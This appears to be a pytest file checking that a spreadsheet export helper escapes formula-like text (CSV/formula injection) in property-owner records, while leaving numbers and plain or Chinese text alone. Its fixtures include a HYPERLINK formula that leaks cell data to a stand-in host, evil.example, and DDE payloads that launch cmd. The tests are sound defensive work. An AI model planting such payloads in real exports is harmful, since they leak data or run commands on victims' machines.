"""Spreadsheet safety (OWASP CSV injection): formula-like text is escaped, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from xinyi_shared.spreadsheet import append_row, csv_writer, safe_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"点击")', '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+cmd|' /C notepad'!'B1'", "'+cmd|' /C notepad'!'B1'"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("=1+2", "'=1+2"),
    ],
)
def test_formula_triggers_are_prefixed_with_a_quote(value: str, expected: str) -> None:
    assert safe_cell(value) == expected


@pytest.mark.parametrize(
    "value",
    ["张三", "Li Wei", "金河绿洲 3栋2单元1502", "a=b", "1+1", "x@y.cn", "", " =1", "'=1", "＝1"],
)
def test_plain_text_and_chinese_are_untouched(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-2, -1250.5, Decimal("-12.50"), 0, 3, None, True, date(2026, 1, 31)])
def test_numbers_and_other_values_are_not_escaped(value: object) -> None:
    assert safe_cell(value) is value


OWNERS = [
    ["楼栋", "房号", "业主姓名", "欠费(元)", "余额"],
    ["3", "1502", '=HYPERLINK("http://evil.example","点我")', -1250, Decimal("-12.50")],
    ["3", "1503", "@SUM(A1:A9)", 0, "-3"],
    ["3", "1504", "张三", 88.5, None],
]


def test_a_csv_export_with_formula_like_owner_names_comes_out_escaped() -> None:
    stream = io.StringIO(newline="")
    csv_writer(stream).writerows(OWNERS)
    text = stream.getvalue()

    assert text.splitlines()[1] == '"3","1502","\'=HYPERLINK(""http://evil.example"",""点我"")",-1250,-12.50'
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[2] == ["3", "1503", "'@SUM(A1:A9)", "0", "'-3"]
    assert rows[3] == ["3", "1504", "张三", "88.5", ""]
    for row in rows:  # no text field a spreadsheet would evaluate
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)


def test_an_xlsx_export_with_formula_like_owner_names_comes_out_escaped() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in OWNERS:
        append_row(sheet, row)
    buffer = io.BytesIO()
    workbook.save(buffer)

    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    name = read["C2"]
    assert name.data_type == "s" and name.value == '\'=HYPERLINK("http://evil.example","点我")'
    assert read["C3"].value == "'@SUM(A1:A9)"
    assert read["D2"].data_type == "n" and read["D2"].value == -1250  # a negative amount stays a number
    assert read["E3"].value == "'-3"
    assert read["C4"].value == "张三"
    assert not any(cell.data_type == "f" for row in read.iter_rows() for cell in row)
